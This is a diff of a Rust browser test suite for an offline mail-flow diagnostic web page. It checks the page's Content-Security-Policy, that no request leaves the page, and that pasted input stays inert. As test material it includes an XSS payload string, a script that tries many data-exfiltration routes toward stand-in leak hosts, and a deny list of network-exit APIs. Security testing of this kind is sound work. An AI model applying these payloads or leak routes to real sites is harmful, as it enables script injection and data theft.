@@ -3,8 +3,9 @@
 
 use serde_json::json;
 
-use crate::driver::{Browser, address, page};
-use crate::http;
+use crate::driver::{Browser, address, everywhere, everywhere_with, page};
+use crate::engine::{Engine, PLAIN, Wishes, say};
+use crate::http::{self, Collector};
 use crate::use_of_it::wait_for;
 use crate::{ADDRESSES, EXAMPLE};
 
@@ -18,172 +19,205 @@ fn source() -> Option<String> {
 
 #[test]
 fn nothing_is_requested() {
-    let Some(browser) = Browser::bare(&[], "en-US") else { return };
-    let port = http::serve(std::fs::read(page()).expect("the page"));
-    for address in [address(), format!("http://127.0.0.1:{port}/mailflow-doctor.html")] {
-        browser.requests();
-        browser.open(&address);
-        browser.paste(&format!("{ADDRESSES}{EXAMPLE}"));
-        browser.wait("document.querySelector('#verdict .badge')");
-        browser.run("for (const fold of document.querySelectorAll('details')) fold.open = true");
-        browser.click("[data-do=download-page]");
-        browser.click("[data-do=language][data-arg=de]");
-        browser.look(320, true);
-        std::thread::sleep(std::time::Duration::from_millis(300));
-        assert_eq!(browser.requests(), [address], "the page itself, and nothing else");
-        let complaints = browser.log("browser");
-        assert!(complaints.is_empty(), "{complaints:?}");
+    let collector = Collector::start();
+    for browser in everywhere_with(Wishes { proxy: Some(collector.port), ..PLAIN }) {
+        let port = http::serve(std::fs::read(page()).expect("the page"));
+        for address in [address(), format!("http://127.0.0.1:{port}/mailflow-doctor.html")] {
+            let chromium = browser.engine == Engine::Chromium;
+            if chromium {
+                browser.requests();
+            }
+            browser.open(&address);
+            browser.run(
+                "window.complaints = []; \
+                 document.addEventListener('securitypolicyviolation', e => window.complaints.push(e.violatedDirective))",
+            );
+            browser.paste(&format!("{ADDRESSES}{EXAMPLE}"));
+            browser.wait("document.querySelector('#verdict .badge')");
+            browser.run("for (const fold of document.querySelectorAll('details')) fold.open = true");
+            browser.click("[data-do=download-page]");
+            browser.click("[data-do=language][data-arg=de]");
+            browser.look(if browser.engine == Engine::WebKit { 700 } else { 320 }, true);
+            std::thread::sleep(std::time::Duration::from_millis(300));
+            browser.look(1280, false);
+            assert_eq!(browser.text("performance.getEntriesByType('resource').map(e => e.name).join()"), "");
+            assert_eq!(browser.text("window.complaints.join()"), "");
+            if chromium {
+                assert_eq!(browser.requests(), [address], "the page itself, and nothing else");
+                let complaints = browser.log("browser");
+                assert!(complaints.is_empty(), "{complaints:?}");
+            }
+        }
+        assert_eq!(collector.asked(), [""; 0], "{}", browser.engine.name());
     }
 }
 
 #[test]
 fn the_policy_is_there_and_holds() {
-    let Some(browser) = Browser::start() else { return };
-    let policy = browser.text("document.querySelector('meta[http-equiv=Content-Security-Policy]').content");
-    for part in
-        ["default-src 'none'", "connect-src 'none'", "form-action 'none'", "base-uri 'none'", "trusted-types 'none'"]
-    {
-        assert!(policy.contains(part), "{policy}");
+    const ATTACKS: &str = include_str!("attacks.js");
+    for engine in Engine::ALL {
+        let open = Collector::start();
+        let held = Collector::start();
+        let wishes = |c: &Collector| Wishes { proxy: Some(c.port), ..PLAIN };
+        let Some(browser) = Browser::start(engine, wishes(&held)) else { continue };
+        browser.open(&address());
+        let policy = browser.text("document.querySelector('meta[http-equiv=Content-Security-Policy]').content");
+        for part in [
+            "default-src 'none'",
+            "connect-src 'none'",
+            "form-action 'none'",
+            "base-uri 'none'",
+            "trusted-types 'none'",
+        ] {
+            assert!(policy.contains(part), "{policy}");
+        }
+        let loose = ["unsafe-inline", "'unsafe-eval'", "http"];
+        assert!(loose.iter().all(|word| !policy.contains(word)), "{policy}");
+        // Each way out is tried by the page's own document; all must fail.
+        assert_eq!(browser.run(ATTACKS), "refused", "markup from text");
+        std::thread::sleep(std::time::Duration::from_millis(1500));
+        assert_eq!(held.below(".leak.example"), [""; 0], "{}: this got out", engine.name());
+        // What no policy can stop gets out, and the page says so.
+        browser.run("document.getElementById('privacy').open = true");
+        let honest = browser.text("document.getElementById('privacy').textContent");
+        for word in ["navigation", "new window", "WebRTC", "preconnect"] {
+            assert!(honest.contains(word), "{word}: {honest}");
+        }
+        browser.run("paste.value = ''; setTimeout(() => { location.href = 'http://navigation.leak.example/x' }, 0)");
+        wait_until(|| held.below(".leak.example") == ["navigation"]);
+        drop(browser);
+        // The same in a page without a policy: the test sees what gets out.
+        let port = http::serve(b"<!DOCTYPE html><title>x</title><body>".to_vec());
+        let Some(browser) = Browser::start(engine, wishes(&open)) else { continue };
+        browser.go(&format!("http://127.0.0.1:{port}/"));
+        // Firefox gives nothing back: one of the tries asks the user something, which ends the script.
+        assert_ne!(browser.run(ATTACKS), "refused");
+        let seen = || open.below(".leak.example");
+        wait_until(|| seen().iter().any(|k| k == "fetch") && seen().len() >= 15);
+        std::thread::sleep(std::time::Duration::from_millis(500));
+        let tried = ATTACKS.matches(": u => {").count();
+        say(&format!("{}: {} of {tried} ways out work without a policy, none with it", engine.name(), seen().len()));
     }
-    assert!(
-        !policy.contains("unsafe-inline") && !policy.contains("'unsafe-eval'") && !policy.contains("http"),
-        "{policy}"
-    );
-    let port = http::serve(Vec::new());
-    browser.requests();
-    // Each of these is tried by the page's own document; all must fail.
-    let tried = browser.run_with(
-        "const at = arguments[0], blocked = []; \
-         document.addEventListener('securitypolicyviolation', e => blocked.push(e.effectiveDirective)); \
-         try { fetch(at).catch(() => 0) } catch (e) {} try { new XMLHttpRequest().open('GET', at) } catch (e) {} \
-         try { const x = new XMLHttpRequest(); x.open('GET', at); x.send() } catch (e) {} \
-         try { navigator.sendBeacon(at, 'x') } catch (e) {} try { new WebSocket(at.replace('http', 'ws')) } catch (e) {} \
-         try { new EventSource(at) } catch (e) {} \
-         for (const [tag, name] of [['img', 'src'], ['iframe', 'src'], ['link', 'href'], ['video', 'src']]) { \
-           const e = document.createElement(tag); if (tag === 'link') e.rel = 'stylesheet'; e[name] = at; document.body.append(e); } \
-         const form = document.createElement('form'); form.action = at; document.body.append(form); form.submit(); \
-         const style = document.createElement('style'); style.textContent = '@import url(' + at + ')'; document.body.append(style); \
-         let markup = 'taken'; try { document.body.insertAdjacentHTML('beforeend', '<b>x</b>') } catch (e) { markup = 'refused' } \
-         window.blocked = blocked; return markup",
-        json!([format!("http://127.0.0.1:{port}/leak")]),
-    );
-    assert_eq!(tried, "refused", "markup from text");
-    browser.wait("window.blocked.length >= 7");
-    let answered: Vec<String> = browser
-        .log("performance")
-        .iter()
-        .map(ToString::to_string)
-        .filter(|m| m.contains("responseReceived") && m.contains("/leak"))
-        .collect();
-    assert!(answered.is_empty(), "{answered:?}");
+}
+
+fn wait_until(holds: impl Fn() -> bool) {
+    let start = std::time::Instant::now();
+    while !holds() {
+        assert!(start.elapsed() < std::time::Duration::from_secs(10), "in vain");
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
 }
 
 #[test]
 fn hostile_text_stays_text() {
-    let Some(browser) = Browser::start() else { return };
-    let evil =
-        "</script><script>window.owned=1</script><img src=x onerror=window.owned=1>'\"${x}\u{202e}\u{200b}\u{7}`$(x)";
-    let text = format!("{ADDRESSES}{EXAMPLE}").replace("Relay EX2016", &format!("Relay {evil} EX2016"));
-    browser.paste(&text);
-    browser.wait("document.querySelector('#verdict .badge')");
-    browser.run("for (const fold of document.querySelectorAll('details')) fold.open = true");
-    browser.wait("!document.querySelector('#app').hidden");
-    assert_eq!(browser.text("String(window.owned)"), "undefined");
-    assert_eq!(browser.text("document.querySelectorAll('#app img, #app script').length"), "0");
-    assert!(browser.text("document.querySelector('#app').textContent").contains("<img src=x"));
-    assert_eq!(browser.text("document.getElementById('broken').hidden"), "true");
-    assert_eq!(browser.text("document.title"), "Mailflow Doctor");
-    // One line of a million characters, alone and as a value.
-    for text in
-        ["x".repeat(1_000_000), format!("Identity : A\\B\nRemoteIPRanges : {{{}}}\n", "10.0.0.1, ".repeat(50_000))]
-    {
-        browser.run_with(
+    for browser in everywhere() {
+        let evil = "</script><script>window.owned=1</script><img src=x onerror=window.owned=1>'\"${x}\u{202e}\u{200b}\u{7}`$(x)";
+        let text = format!("{ADDRESSES}{EXAMPLE}").replace("Relay EX2016", &format!("Relay {evil} EX2016"));
+        browser.paste(&text);
+        browser.wait("document.querySelector('#verdict .badge')");
+        browser.run("for (const fold of document.querySelectorAll('details')) fold.open = true");
+        browser.wait("!document.querySelector('#app').hidden");
+        assert_eq!(browser.text("String(window.owned)"), "undefined");
+        assert_eq!(browser.text("document.querySelectorAll('#app img, #app script').length"), "0");
+        assert!(browser.text("document.querySelector('#app').textContent").contains("<img src=x"));
+        assert_eq!(browser.text("document.getElementById('broken').hidden"), "true");
+        assert_eq!(browser.text("document.title"), "Mailflow Doctor");
+        // One line of a million characters, alone and as a value.
+        for text in
+            ["x".repeat(1_000_000), format!("Identity : A\\B\nRemoteIPRanges : {{{}}}\n", "10.0.0.1, ".repeat(50_000))]
+        {
+            browser.run_with(
             "const f = document.getElementById('paste'); f.value = arguments[0]; f.dispatchEvent(new Event('input', { bubbles: true }))",
             json!([text]),
         );
-        assert_eq!(browser.text("document.getElementById('broken').hidden"), "true");
-        assert_eq!(browser.text("document.getElementById('first').hidden"), "true");
+            assert_eq!(browser.text("document.getElementById('broken').hidden"), "true");
+            assert_eq!(browser.text("document.getElementById('first').hidden"), "true");
+        }
     }
 }
 
 #[test]
 fn the_offered_copy_is_the_file_byte_for_byte() {
-    let Some(browser) = Browser::start() else { return };
-    let folder = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("copy-{}", std::process::id()));
-    std::fs::create_dir_all(&folder).expect("a folder");
-    browser.cdp(
-        "Browser.setDownloadBehavior",
-        json!({ "behavior": "allow", "downloadPath": folder.display().to_string() }),
-    );
-    browser.paste(&format!("{ADDRESSES}{EXAMPLE}"));
-    browser.wait("document.querySelector('#verdict .badge')");
-    browser.click("[data-do=download-page]");
-    let copy = wait_for(&folder, "html");
-    assert!(copy == std::fs::read(page()).expect("the page"), "the copy differs from the file");
+    for browser in everywhere() {
+        let folder = browser.downloads();
+        browser.paste(&format!("{ADDRESSES}{EXAMPLE}"));
+        browser.wait("document.querySelector('#verdict .badge')");
+        browser.click("[data-do=download-page]");
+        let copy = wait_for(&folder, "html");
+        assert!(copy == std::fs::read(page()).expect("the page"), "the copy differs from the file");
+    }
 }
 
 #[test]
 fn a_copy_saved_by_the_browser_opens_empty() {
-    let Some(browser) = Browser::start() else { return };
-    browser.paste(&format!("{ADDRESSES}{EXAMPLE}"));
-    browser.wait("document.querySelector('#verdict .badge')");
-    // What "save page, complete" stores: the document as it stands, here with the text of the field as well.
-    let saved = browser.text(
+    for browser in everywhere() {
+        browser.paste(&format!("{ADDRESSES}{EXAMPLE}"));
+        browser.wait("document.querySelector('#verdict .badge')");
+        // What "save page, complete" stores: the document as it stands, here with the text of the field as well.
+        let saved = browser.text(
         "(paste.textContent = paste.value, '<!DOCTYPE html><!-- saved from url=(0014)about:internet -->' + document.documentElement.outerHTML)",
     );
-    assert!(saved.contains("EX2010-1"));
-    let file =
-        std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("mailflow-saved-{}.html", std::process::id()));
-    std::fs::write(&file, saved).expect("the saved copy");
-    browser.open(&format!("file://{}", file.display()));
-    assert_eq!(browser.text("document.getElementById('paste').value"), "");
-    assert_eq!(
-        browser.text("document.getElementById('verdict').textContent + document.getElementById('report').textContent"),
-        ""
-    );
-    assert_eq!(browser.text("document.getElementById('first').hidden"), "false");
-    let _ = std::fs::remove_file(file);
+        assert!(saved.contains("EX2010-1"));
+        let file = std::path::Path::new(env!("CARGO_TARGET_TMPDIR"))
+            .join(format!("mailflow-saved-{}.html", std::process::id()));
+        std::fs::write(&file, saved).expect("the saved copy");
+        browser.open(&format!("file://{}", file.display()));
+        assert_eq!(browser.text("document.getElementById('paste').value"), "");
+        assert_eq!(
+            browser
+                .text("document.getElementById('verdict').textContent + document.getElementById('report').textContent"),
+            ""
+        );
+        assert_eq!(browser.text("document.getElementById('first').hidden"), "false");
+        let _ = std::fs::remove_file(file);
+    }
 }
 
 #[test]
 fn other_encodings_and_an_altered_byte() {
-    let Some(browser) = Browser::bare(&[], "en-US") else { return };
-    let Some(source) = source() else { return };
-    let utf16 = std::iter::once(0xfeff).chain(source.encode_utf16()).flat_map(u16::to_le_bytes).collect();
-    let copies = [
-        ("crlf", source.replace('\n', "\r\n").into_bytes()),
-        ("bom", [b"\xef\xbb\xbf", source.as_bytes()].concat()),
-        ("utf16", utf16),
-    ];
-    for (name, bytes) in copies {
-        let file = std::path::Path::new(env!("CARGO_TARGET_TMPDIR"))
-            .join(format!("mailflow-{name}-{}.html", std::process::id()));
-        std::fs::write(&file, bytes).expect("a copy");
-        browser.open(&format!("file://{}", file.display()));
-        browser.click("[data-do=example]");
-        browser.wait("document.querySelector('#verdict').textContent.includes('Relay EX2016-1')");
+    for browser in everywhere_with(PLAIN) {
+        let Some(source) = source() else { return };
+        let utf16 = std::iter::once(0xfeff).chain(source.encode_utf16()).flat_map(u16::to_le_bytes).collect();
+        let copies = [
+            ("crlf", source.replace('\n', "\r\n").into_bytes()),
+            ("bom", [b"\xef\xbb\xbf", source.as_bytes()].concat()),
+            ("utf16", utf16),
+        ];
+        for (name, bytes) in copies {
+            let file = std::path::Path::new(env!("CARGO_TARGET_TMPDIR"))
+                .join(format!("mailflow-{name}-{}.html", std::process::id()));
+            std::fs::write(&file, bytes).expect("a copy");
+            browser.open(&format!("file://{}", file.display()));
+            browser.click("[data-do=example]");
+            browser.wait("document.querySelector('#verdict').textContent.includes('Relay EX2016-1')");
+            let _ = std::fs::remove_file(file);
+            browser.run("paste.value = ''");
+        }
+        // One letter of the engine altered: the policy refuses the script, and the message stays.
+        let at = source.find("const engine = \"").expect("the engine") + 5000;
+        let mut bytes = source.into_bytes();
+        bytes[at] = if bytes[at] == b'A' { b'B' } else { b'A' };
+        let file =
+            std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("altered-{}.html", std::process::id()));
+        std::fs::write(&file, bytes).expect("an altered copy");
+        browser.go(&format!("file://{}", file.display()));
+        assert_eq!(browser.text("document.getElementById('fallback').hidden"), "false");
+        assert_eq!(browser.text("document.getElementById('app').hidden"), "true");
         let _ = std::fs::remove_file(file);
-        browser.run("paste.value = ''");
     }
-    // One letter of the engine altered: the policy refuses the script, and the message stays.
-    let at = source.find("const engine = \"").expect("the engine") + 5000;
-    let mut bytes = source.into_bytes();
-    bytes[at] = if bytes[at] == b'A' { b'B' } else { b'A' };
-    let file = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("altered-{}.html", std::process::id()));
-    std::fs::write(&file, bytes).expect("an altered copy");
-    browser.go(&format!("file://{}", file.display()));
-    assert_eq!(browser.text("document.getElementById('fallback').hidden"), "false");
-    assert_eq!(browser.text("document.getElementById('app').hidden"), "true");
-    let _ = std::fs::remove_file(file);
 }
 
 #[test]
 fn without_webassembly_the_message_stays() {
-    let Some(browser) = Browser::bare(&["--js-flags=--jitless"], "en-US") else { return };
-    browser.go(&address());
-    assert_eq!(browser.text("typeof WebAssembly"), "undefined");
-    let text = browser.text("document.body.innerText");
-    assert!(text.contains("This page has not started") && text.contains("Diese Seite ist nicht gestartet"), "{text}");
+    for browser in everywhere_with(Wishes { wasm: false, ..PLAIN }) {
+        browser.go(&address());
+        assert_eq!(browser.text("typeof WebAssembly"), "undefined");
+        let text = browser.text("document.body.innerText");
+        assert!(
+            text.contains("This page has not started") && text.contains("Diese Seite ist nicht gestartet"),
+            "{text}"
+        );
+    }
 }
 
 #[test]
@@ -202,6 +236,9 @@ fn the_script_knows_no_way_out() {
         "RTCPeerConnection",
         "import(",
         "window.open",
+        "location",
+        "preconnect",
+        "prefetch",
         "localStorage",
         "sessionStorage",
         "indexedDB",
